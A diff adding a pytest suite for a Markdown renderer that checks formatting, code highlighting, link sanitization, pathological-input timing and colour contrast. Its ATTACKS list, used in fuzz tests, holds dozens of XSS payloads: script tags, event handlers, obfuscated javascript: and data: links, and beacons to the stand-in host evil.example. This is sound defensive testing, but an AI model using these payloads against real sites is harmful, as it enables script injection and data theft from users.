@@ -1,0 +1,347 @@
+"""Rendered text: what Markdown means is shown, and nothing that text can contain becomes more than text."""
+
+import re
+import subprocess
+import sys
+import time
+from html.parser import HTMLParser
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+
+from clawsite.infra import markup, markup_code
+from clawsite.infra.markup import render
+
+STATIC = Path(__file__).parents[2] / "static/css"
+ALLOWED = {
+    "a": {"href", "rel", "target", "class"},
+    "pre": {"class", "data-language"},
+    "span": {"class"},
+    "div": {"class"},
+    "th": {"class"},
+    "td": {"class"},
+    "li": {"class"},
+    "ol": {"start"},
+    "input": {"type", "disabled", "checked"},
+}
+
+
+class Page(HTMLParser):
+    """What a browser would see."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.text = ""
+        self.other: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data):
+        self.text += data
+
+    def handle_comment(self, data):
+        self.other.append(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+    def links(self) -> list[str | None]:
+        return [attributes.get("href") for tag, attributes in self.tags if tag == "a"]
+
+
+def assert_harmless(html: str) -> Page:
+    page = Page(html)
+    assert page.other == []
+    for tag, attributes in page.tags:
+        assert tag in markup.TAGS
+        assert set(attributes) <= ALLOWED.get(tag, set()), (tag, attributes)
+        if tag == "a":
+            if (address := attributes.get("href", "")) != "":  # nh3 leaves a link without one where the host makes no sense
+                assert urlsplit(address or "").scheme in ("http", "https", "mailto"), address
+            assert (attributes["rel"], attributes["target"]) == ("noopener noreferrer nofollow", "_blank")
+        if tag == "input":
+            assert attributes["type"] == "checkbox" and "disabled" in attributes
+        assert set((attributes.get("class") or "").split()) <= markup.STYLES.get(tag, set())
+    return page
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("# One\n## Two", "<h1>One</h1>\n<h2>Two</h2>\n"),
+        ("a **b** *c* ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>\n"),
+        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
+        ("- a\n  1. b", "<ul>\n<li>a\n<ol>\n<li>b</li>\n</ol>\n</li>\n</ul>\n"),
+        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>\n'),
+        ("- [x] done", '<ul>\n<li class="task-list-item"><input disabled="" type="checkbox" checked=""> done</li>\n</ul>\n'),
+        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
+        ("***", "<hr>\n"),
+        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>\n"),
+        ("```\nx < y\n```", '<pre class="code"><code>x &lt; y\n</code></pre>\n'),
+        ("    x", '<pre class="code"><code>x\n</code></pre>\n'),
+    ],
+)
+def test_markdown_is_shown(text: str, html: str) -> None:
+    assert render(text) == html
+
+
+def test_a_table_has_its_alignment_as_a_class() -> None:
+    html = render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
+    assert '<th class="left">a</th>' in html
+    assert '<td class="center">2</td>' in html
+    assert '<td class="right">3</td>' in html
+    assert "style" not in html
+
+
+def test_code_is_coloured_and_says_its_language() -> None:
+    html = render("```python\ndef f(): return 'x'  # why\n```")
+    assert html.startswith('<pre class="code" data-language="python"><code><span class="k">def</span> <span class="nf">f</span>():')
+    assert '<span class="c"># why</span>' in html
+    assert render("```py\n1\n```").startswith('<pre class="code" data-language="py"><code><span class="m">1</span>')
+
+
+@pytest.mark.parametrize("language", ["klingon", "text", "", "a" * 33])
+def test_code_in_an_unknown_language_is_plain(language: str) -> None:
+    assert "<span" not in render(f"```{language}\nif 1: pass\n```")
+
+
+def test_code_too_long_to_colour_is_plain_and_whole() -> None:
+    code = "x = 1\n" * 20_000
+    html = render(f"```python\n{code}```")
+    assert "<span" not in html
+    assert Page(html).text.strip() == code.strip()
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("so $a_1 * b_2 * c$ holds", '<span class="math">$a_1 * b_2 * c$</span>'),
+        (r"so \(a_1\) holds", r'<span class="math">\(a_1\)</span>'),
+        ("$$\nx_1\n- y < z\n$$", '<div class="math">$$\nx_1\n- y &lt; z\n$$</div>'),
+        ("\\[ x^2 \\]", '<div class="math">\\[ x^2 \\]</div>'),
+        ("see $$x_1$$ here", '<span class="math">$$x_1$$</span>'),
+    ],
+)
+def test_formulas_are_kept_as_written(text: str, shown: str) -> None:
+    assert shown in render(text)
+
+
+@pytest.mark.parametrize("text", ["it costs $5 and $6", "a $ b $ c", "$$", r"\(", "`$a$`", "price: $5"])
+def test_money_is_no_formula(text: str) -> None:
+    assert "math" not in render(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "link"),
+    [
+        ("[a](https://example.org/x)", "https://example.org/x"),
+        ("<https://example.org>", "https://example.org"),
+        ("<a@example.org>", "mailto:a@example.org"),
+        ("see https://example.org/a_b_(c)?d=1&e=2.", "https://example.org/a_b_(c)?d=1&e=2"),
+        ("(https://example.org)", "https://example.org"),
+        ("**https://example.org/**", "https://example.org/"),
+        ("见 https://example.org/路径，然后", "https://example.org/路径"),
+        ("[a]\n\n[a]: http://example.org", "http://example.org"),
+    ],
+)
+def test_links_lead_to_the_web_in_a_page_of_their_own(text: str, link: str) -> None:
+    assert assert_harmless(render(text)).links() == [link]
+
+
+def test_images_are_links_and_never_loaded() -> None:
+    page = assert_harmless(render("![a cat](https://example.org/cat.png?secret=1) [![inner](http://a.example)](http://b.example)"))
+    assert page.links() == ["https://example.org/cat.png?secret=1", "http://b.example"]
+    assert page.text.split() == ["a", "cat", "inner"]
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '<svg><script href="data:,alert(1)"/></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    '<math href="javascript:alert(1)">CLICK</math>',
+    "<style>@import 'https://evil.example';</style>",
+    '<p style="background:url(https://evil.example)">x</p>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "<object data=javascript:alert(1)><embed src=x>",
+    '<form action="https://evil.example"><button formaction="javascript:alert(1)">x</button></form>',
+    '<base href="https://evil.example">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<link rel="stylesheet" href="https://evil.example">',
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "<!-- --><script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "<a href=javascript:alert(1)>x</a>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java\nscript:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;avascript&colon;alert(1))",
+    "[x](javascript&colon;alert(1))",
+    "[x](\\javascript:alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](%6Aavascript:alert(1))",
+    "[x](<javascript:alert(1)>)",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](DATA:text/html,<script>alert(1)</script>)",
+    "[x](file:///etc/passwd)",
+    "[x](//evil.example)",
+    "[x](/sign-out/)",
+    "[x](http:javascript:alert(1))",
+    "[x]\n\n[x]: javascript:alert(1)",
+    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
+    '[x](https://ok.example/"onmouseover="alert(1))',
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "![x](javascript:alert(1))",
+    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
+    "![x](data:image/png;base64,iVBORw0KGgo=)",
+    "![beacon](https://evil.example/?q=secret)",
+    '![x" onerror="alert(1)](https://evil.example)',
+    '```"><script>alert(1)</script>\nx\n```',
+    '```python" onmouseover="alert(1)\nx\n```',
+    "```<img/src=x/onerror=alert(1)>\nx\n```",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+    "$<script>alert(1)</script>$",
+    "$$\n<img src=x onerror=alert(1)>\n$$",
+    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+    '- [x] <input type="text" onfocus=alert(1) autofocus>',
+    'https://example.org/"onmouseover=alert(1)//',
+    "https://example.org/<script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\<script>alert(1)\\</script>",
+    "<scr\0ipt>alert(1)</scr\0ipt>",
+    "﻿<script>alert(1)</script>",
+]
+
+
+@pytest.mark.parametrize("text", ATTACKS)
+def test_an_attack_is_shown_as_text(text: str) -> None:
+    assert_harmless(render(text))
+
+
+SIGNS = [
+    "[",
+    "](",
+    ")",
+    "<",
+    ">",
+    "`",
+    "```",
+    "\n",
+    "\n\n",
+    "$",
+    "$$",
+    "\\(",
+    "|",
+    "|-|",
+    "- ",
+    "> ",
+    "#",
+    "*",
+    "_",
+    "~~",
+    "&#",
+    ";",
+]
+NASTY = st.sampled_from([*ATTACKS, *SIGNS, "![", ": "])
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.lists(NASTY | st.text(max_size=8), max_size=12).map("".join))
+@example("<a href='javascript:alert(1)'>")
+def test_whatever_is_rendered_has_only_what_is_allowed(text: str) -> None:
+    assert_harmless(render(text))
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.text(alphabet=st.characters(categories=("L", "N", "Zs")), max_size=200))
+def test_plain_words_are_all_there(text: str) -> None:
+    assert "".join(Page(render(text)).text.split()) == "".join(text.split())
+
+
+@pytest.mark.parametrize("size", [markup.LONGEST_TEXT, 1 << 20])
+@pytest.mark.parametrize(
+    "sign",
+    ["[", "*", "![", "[a](", "*_", "a_", ">", "- ", "|\n", "`", "<", "\\(", "\\[ \\] x\n", "$", "[[]", "- a\n", "```\n"],
+)
+def test_text_made_to_take_for_ever_does_not(sign: str, size: int) -> None:
+    """The bound is far above what it takes (2 s) and far below what it took without limits (minutes)."""
+    text = (sign * (size // len(sign) + 1))[:size]
+    before = time.thread_time()
+    assert_harmless(render(text)[:100_000].rpartition("<")[0])
+    assert time.thread_time() - before < 20
+
+
+@pytest.mark.parametrize(
+    ("language", "sign"), [("c", "\n "), ("java", "a "), ("yaml", "@"), ("ini", "="), ("html", "<!--"), ("ts", "a.")]
+)
+@pytest.mark.parametrize("line", [100_000, 400])
+def test_code_made_to_hold_up_its_lexer_does_not(language: str, sign: str, line: int) -> None:
+    rows = [sign * (line // len(sign))] * (90_000 // line)
+    code = "\n".join(rows) + "\n"
+    before = time.thread_time()
+    html = render(f"```{language}\n{code}```")
+    assert time.thread_time() - before < 10
+    assert Page(html).text == code + "\n"
+
+
+def test_lists_inside_lists_keep_their_words() -> None:
+    text = "".join("  " * depth + f"- w{depth}\n" for depth in range(25))
+    assert Page(render(text)).text.split() == [f"w{depth}" for depth in range(25)]
+
+
+def test_a_text_is_rendered_once(monkeypatch: pytest.MonkeyPatch) -> None:
+    first = render("remembered *words*")
+    monkeypatch.setattr(markup, "_parser", None)
+    assert render("remembered *words*") is first
+
+
+def test_what_is_remembered_is_bounded() -> None:
+    kept = markup._Remembered(10)
+    kept.put("aa", "bbb")
+    kept.put("cc", "ddd")
+    kept.put("ee", "fff")
+    assert (kept.get("aa"), kept.get("cc"), kept.get("ee")) == (None, "ddd", "fff")
+
+
+def test_importing_it_loads_no_library() -> None:
+    code = "import sys, clawsite.infra.markup; print([m for m in ('nh3', 'markdown_it', 'pygments') if m in sys.modules])"
+    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip() == "[]"
+
+
+@pytest.mark.parametrize("name", sorted(set(markup_code.LEXERS.values())))
+def test_every_language_in_the_list_is_known(name: str) -> None:
+    assert markup_code._lexer(name)
+
+
+def test_every_class_has_a_colour_that_can_be_read() -> None:
+    pairs = r"--([\w-]+): light-dark\((#\w{6}), (#\w{6})\)"
+    tokens, code = (STATIC / "tokens.css").read_text(), (STATIC / "code.css").read_text()
+    ground = {name: shades for name, *shades in re.findall(pairs, tokens)}["code"]
+    for name, *shades in re.findall(pairs, code):
+        for shade, behind in zip(shades, ground, strict=True):
+            lighter, darker = sorted((_luminance(shade), _luminance(behind)), reverse=True)
+            assert (lighter + 0.05) / (darker + 0.05) >= 4.5, (name, shade)
+    uncoloured = {"o"}
+    assert set(re.findall(r"\.code \.(\w+)", code)) == markup_code.CLASSES - uncoloured
+
+
+def _luminance(colour: str) -> float:
+    shares = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
+    red, green, blue = [share / 12.92 if share <= 0.04045 else ((share + 0.055) / 1.055) ** 2.4 for share in shares]
+    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
